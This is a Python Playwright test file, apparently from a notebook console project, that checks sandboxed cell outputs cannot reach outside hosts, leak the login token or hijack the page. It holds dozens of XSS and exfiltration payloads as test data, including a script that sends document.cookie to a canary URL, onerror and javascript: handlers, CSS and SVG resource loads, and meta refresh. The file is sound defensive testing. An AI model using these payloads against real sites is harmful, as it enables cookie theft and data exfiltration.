"""Outputs that attack whoever looks at them. None runs, none loads anything, none learns anything.

Every attack is tried in a careless page too, where it reaches a canary of its own: a silence means something only then.
That is also what a watched page waits for: what was tried there later has got through, while the page stayed open.
"""

from __future__ import annotations

import asyncio
import re
import uuid
from collections.abc import Iterator
from contextlib import AsyncExitStack
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, Frame, Page, Request, expect

from tests.browser.canary import Canary, listening
from tests.browser.console import Served, cell, log_in, opened, serving

pytestmark = [pytest.mark.docker, pytest.mark.asyncio(loop_scope="session")]

WITHIN = 60.0
HTML = {
    "script": "<script>fetch('URL/script?'+encodeURIComponent(document.cookie))</script>",
    "module": "<script type=module>fetch('URL/module')</script>",
    "external": "<script src=URL/external></script>",
    "onerror": "<img src=x: onerror=\"fetch('URL/onerror')\">",
    "onload": "<body onload=\"fetch('URL/onload')\">",
    "focus": "<input autofocus onfocus=\"fetch('URL/focus')\">",
    "toggle": "<details open ontoggle=\"fetch('URL/toggle')\"><summary>x</summary></details>",
    "svg": "<svg onload=\"fetch('URL/svg')\"></svg>",
    "svgimage": '<svg><image href="URL/svgimage"/></svg>',
    "img": "<img src=URL/img>",
    "srcset": '<img srcset="URL/srcset 1x">',
    "picture": '<picture><source srcset="URL/picture"><img></picture>',
    "iframe": "<iframe src=URL/iframe></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='URL/srcdoc'>\"></iframe>",
    "object": "<object data=URL/object></object>",
    "embed": "<embed src=URL/embed>",
    "video": "<video poster=URL/video></video>",
    "audio": "<audio src=URL/audio preload=auto></audio>",
    "sheet": "<link rel=stylesheet href=URL/sheet>",
    "import": '<style>@import "URL/import";</style>',
    "css": "<div style='background:url(URL/css);width:9px;height:9px'>x</div>",
    "listed": "<ul style='list-style-image:url(URL/listed)'><li>x</li></ul>",
    "font": "<style>@font-face{font-family:f;src:url(URL/font)}p{font-family:f}</style><p>x</p>",
    "attribute": "<style>input[value^=s]{background:url(URL/attribute)}</style><input value=secret>",
    "base": "<base href=URL/base/><img src=x>",
    "refresh": '<meta http-equiv=refresh content="0;url=URL/refresh">',
    "form": "<form action=URL/form method=post><input name=a></form><script>document.forms[0].submit()</script>",
    "prefetch": "<link rel=preload as=image href=URL/prefetch>",
    "beacon": "<script>navigator.sendBeacon('URL/beacon', 'x')</script>",
    "location": "<script>location='URL/location'</script>",
    "top": "<script>top.location='URL/top'</script>",
    "popup": "<script>window.open('URL/popup')</script>",
    "worker": "<script>new Worker(URL_.createObjectURL(new Blob([\"fetch('URL/worker')\"])))</script>",
    "unclosed": "<!-- <img title='--><img src=URL/unclosed>'>",
    "template": '<noscript><p title="</noscript><img src=URL/template>">',
}
SVG = """<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='60' height='30'
 onload="fetch('URL/svg-onload')"><script>fetch('URL/svg-script')</script><style>@import url(URL/svg-import);</style>
<image xlink:href='URL/svg-image' width='9' height='9'/><rect fill='url(URL/svg-fill#a)' width='9' height='9'/>
<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='URL/svg-foreign'/></foreignObject>
<a href="javascript:fetch('URL/svg-link')"><text y='20'>x</text></a></svg>"""
SVG_HEARD = {"svg-onload", "svg-script", "svg-import", "svg-image", "svg-foreign"}
MARKDOWN = """# markdown
<script>fetch('URL/md-script')</script>
<img src=x: onerror="fetch('URL/md-onerror')"><img src=URL/md-html>

![picture](URL/md-image) ![data](data:text/html,<img src=URL/md-data>)

[a link](javascript:fetch('URL/md-link')) [another](data:text/html,<img src=URL/md-other>) <URL/md-auto>
"""
CLICKED = """<a href="javascript:fetch('URL/clicked')">click</a>
<form action="URL/sent" method=get><button>send</button></form>
<a href="URL/gone" target=_self>leave</a> <a href="URL/up" target=_top>up</a>
<button onclick="fetch('URL/pressed')">press</button>"""


@pytest.fixture(scope="module")
def served(built_image: str, module_folder: Path) -> Iterator[Served]:
    with serving(module_folder) as served:
        yield served


def aimed(attack: str, canary: Canary) -> str:
    return attack.replace("URL_", "URL\0").replace("URL/", f"{canary.url}/").replace("URL\0", "URL")


async def show(served: Served, name: str, outputs: list[tuple[str, str]]) -> str:
    """A new notebook whose only cell shows these outputs: each a MIME type and its content."""
    notebook = f"{name}-{uuid.uuid4().hex}"
    lines = ["from IPython.display import display"]
    lines += [f"display({{{mime!r}: {content!r}, 'text/plain': 'shown'}}, raw=True)" for mime, content in outputs]
    async with served.session(notebook) as session:
        result = await session.run("\n".join(lines))
        assert result.success, result
    return notebook


class Overheard:
    """Everything that a page's browser asks for, of whomever."""

    def __init__(self, page: Page) -> None:
        self.requests: list[Request] = []
        self.pages: list[Page] = []
        page.context.on("request", lambda request: self.requests.append(request))
        page.context.on("page", lambda page: self.pages.append(page))

    async def judge(self, served: Served) -> None:
        """What was answered came from the console, and nothing but the login had the token."""
        here = urlsplit(served.url).netloc
        for request in self.requests:
            address = urlsplit(request.url)
            if address.netloc != here and address.scheme not in ("data", "blob", "about"):
                assert await request.response() is None, request.url  # the browser has stopped it
            assert served.token not in request.url
            assert served.token not in str(await request.all_headers())
            if not request.url.endswith("/login"):
                assert served.token not in (request.post_data or "")
        assert self.pages == []


async def carelessly(chromium: Browser, attacks: dict[str, str], heard: set[str] | None = None) -> None:
    """Shows each in a page that trusts it: it gets through, and its name (or what is told) is heard."""
    async with opened(chromium) as page:
        for name, attack in attacks.items():
            async with listening() as canary:
                await victim(page, canary, attack)
                async with asyncio.timeout(WITHIN):
                    await canary.until(heard or {name})


async def victim(page: Page, canary: Canary, attack: str) -> None:
    """A page with nothing but the attack, which the canary would have served."""
    address = f"{canary.url}/victim"
    await page.route(address, lambda route: route.fulfill(content_type="text/html", body=aimed(attack, canary)))
    await page.goto(address, wait_until="commit")
    await page.unroute(address)


async def loaded(page: Page, count: int) -> list[Frame]:
    """The frames of outputs, all of them with their documents."""
    places = page.locator("iframe")
    await expect(places).to_have_count(count)
    frames = [await place.content_frame() for place in await places.element_handles()]
    for frame in frames:
        assert frame is not None
        await frame.wait_for_url(re.compile(r"/console/frame\?"))
        await frame.wait_for_load_state()
    return [frame for frame in frames if frame is not None]


async def test_html_that_attacks_reaches_nothing_and_nobody(chromium: Browser, served: Served) -> None:
    async with AsyncExitStack() as stack:
        canaries = {name: await stack.enter_async_context(listening()) for name in HTML}
        outputs = [("text/html", aimed(attack, canaries[name])) for name, attack in HTML.items()]
        notebook = await show(served, "html", outputs)
        # High enough for all frames to be seen: a frame that is never looked at loads nothing.
        async with opened(chromium, viewport={"width": 900, "height": 16_000}) as page:
            overheard = Overheard(page)
            await log_in(page, served, served.address(notebook))
            await loaded(page, len(HTML))
            await carelessly(chromium, HTML)
            assert {name: each.heard for name, each in canaries.items() if each.connections} == {}
            assert await page.title() == f"{notebook}: Cellyard"
            await expect(cell(page, 1)).to_be_visible()
            await overheard.judge(served)


async def test_no_connection_is_opened_ahead(chromium: Browser, served: Served) -> None:
    hints = "<LINK rel=preconnect href=URL/x><link rel=dns-prefetch href=URL/x><link rel=prefetch href=URL/x>"
    async with listening() as canary, listening() as careless:
        notebook = await show(served, "hints", [("text/html", aimed(hints, canary))])
        async with opened(chromium) as page, opened(chromium) as trusting:
            overheard = Overheard(page)
            await log_in(page, served, served.address(notebook))
            frames = await loaded(page, 1)
            assert await frames[0].locator("link").count() == 0
            await victim(trusting, careless, "<link rel=preconnect href=URL/x>")
            async with asyncio.timeout(WITHIN):
                await careless.connected()
            assert canary.connections == 0
            await overheard.judge(served)


async def test_what_is_clicked_in_a_frame_stays_in_it(chromium: Browser, served: Served) -> None:
    async with listening() as canary:
        notebook = await show(served, "clicks", [("text/html", aimed(CLICKED, canary))])
        async with opened(chromium) as page:
            overheard = Overheard(page)
            await log_in(page, served, served.address(notebook))
            frame = (await loaded(page, 1))[0]
            for name in ("press", "send"):
                await frame.get_by_role("button", name=name).click()
            for name in ("click", "up", "leave"):
                await frame.get_by_role("link", name=name).click()
            await carelessly(chromium, {"went": "<script>location='URL/went'</script>"})
            assert page.url == served.address(notebook)
            await expect(cell(page, 1)).to_be_visible()
            # After a click the browser may open a connection ahead of what it then stops: nothing is said on it.
            assert canary.everything == b""
            attempts = [request.url for request in overheard.requests if urlsplit(request.url).port == canary.port]
            assert set(attempts) <= {f"{canary.url}/gone"}, "the browser stops it before it leaves"


async def test_a_link_in_a_frame_opens_beside_and_knows_nothing_of_the_console(
    chromium: Browser, served: Served
) -> None:
    async with listening() as canary:
        notebook = await show(served, "links", [("text/html", aimed("<a href='URL/opened'>go</a>", canary))])
        async with opened(chromium) as page:
            await log_in(page, served, served.address(notebook))
            frame = (await loaded(page, 1))[0]
            async with page.context.expect_page() as opening:
                await frame.get_by_role("link", name="go").click()
            beside = await opening.value
            await beside.wait_for_load_state()
            assert await beside.evaluate("window.opener") is None
            async with asyncio.timeout(WITHIN):
                await canary.until({"opened"})
            asked, _, _ = canary.everything.lower().partition(b"\r\n\r\n")
            assert b"referer" not in asked
            assert b"cookie" not in asked


async def test_a_frame_is_another_origin_and_gets_no_cookie(chromium: Browser, served: Served) -> None:
    here = served.url
    outputs = [
        ("text/html", f"<img id=i src='{here}me'><iframe src='{here}'></iframe><link rel=stylesheet href='{here}me'>")
    ]
    notebook = await show(served, "origin", outputs)
    async with opened(chromium) as page:
        overheard = Overheard(page)
        await log_in(page, served, served.address(notebook))
        frame = (await loaded(page, 1))[0]
        for request in overheard.requests:
            if request.frame == frame and "/console/frame?" not in request.url:
                assert await request.response() is None, request.url
        element = await page.locator("iframe").element_handle()
        assert element is not None
        assert await element.evaluate("frame => frame.contentDocument") is None
        assert await element.evaluate("frame => [...frame.sandbox]") == [
            "allow-popups",
            "allow-popups-to-escape-sandbox",
        ]


async def test_pictures_and_markdown_that_attack_reach_nothing(chromium: Browser, served: Served) -> None:
    async with listening() as canary:
        large = SVG.replace("</svg>", f"<!--{'x' * 70_000}--></svg>")
        outputs = [
            ("image/svg+xml", SVG),
            ("image/svg+xml", large),
            ("text/markdown", MARKDOWN),
            ("image/png", '"><img src=URL/png onerror="fetch(\'URL/png\')">'),
            ("application/javascript", "fetch('URL/javascript')"),
            ("text/latex", "\\href{javascript:fetch('URL/latex')}{x}<img src=URL/latex>"),
            ("application/vnd.custom+json", '{"x": "<img src=URL/json>"}'),
        ]
        notebook = await show(served, "pictures", [(mime, aimed(content, canary)) for mime, content in outputs])
        async with opened(chromium, viewport={"width": 900, "height": 4_000}) as page:
            overheard = Overheard(page)
            await log_in(page, served, served.address(notebook))
            output = page.get_by_role("group", name="Output of cell 1", exact=True)
            await expect(output.get_by_role("heading", name="markdown")).to_be_visible()
            for image in await output.get_by_role("img", name="Output: image/svg+xml").all():
                await page.wait_for_function("image => image.naturalWidth > 0", arg=await image.element_handle())
            await carelessly(chromium, {"svg": SVG}, heard=SVG_HEARD)
            assert await output.get_by_role("link", name="a link").count() == 0
            assert await output.locator("script").count() == 0
            assert canary.connections == 0
            await overheard.judge(served)


async def test_text_names_and_errors_are_text(chromium: Browser, served: Served) -> None:
    async with listening() as canary:
        attack = "<img src=URL/text onerror=\"fetch('URL/text')\">"
        trusted, attack = attack, aimed(attack, canary)
        notebook = f"<img src={canary.url}/name>"  # a new one, as the canary's port is
        async with served.session(notebook) as session:
            await session.run(f"print({attack!r})")
            await session.run(f"raise ValueError({attack!r})")
            await session.run(f"print('\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07' + {attack!r})")
            await session.create_cell(attack, cell_type="raw")
        async with opened(chromium) as page:
            overheard = Overheard(page)
            await log_in(page, served, served.address(notebook))
            await expect(page.get_by_text("ValueError: <img")).to_be_visible()
            await page.goto(served.url + "#/notebooks")
            await expect(page.get_by_role("link", name=notebook)).to_be_visible()
            await page.goto(served.url + "#/")
            await expect(page.get_by_role("heading", name="Sandboxes", exact=True)).to_be_visible()
            await carelessly(chromium, {"text": trusted})
            assert canary.connections == 0
            await overheard.judge(served)


async def test_a_flood_of_output_leaves_the_page_usable(chromium: Browser, served: Served) -> None:
    notebook = f"flood-{uuid.uuid4().hex}"
    async with served.session(notebook) as session, opened(chromium) as page:
        await session.run("0")
        await log_in(page, served, served.address(notebook))
        await expect(cell(page, 1)).to_be_visible()
        flood = "from IPython.display import display\nfor n in range(20_000): print('line', n)\n"
        flood += "for n in range(1_000): display(n)\nprint('last')"
        await session.run(flood)
        output = page.get_by_role("group", name="Output of cell 2", exact=True)
        await expect(output.get_by_text("the console shows 500 outputs of a cell")).to_be_visible()
        await expect(output.locator(".stdout").first).to_contain_text("line 19999")
        await page.get_by_role("button", name="History").click()
        await expect(page.get_by_role("heading", name="The last executions")).to_be_visible()
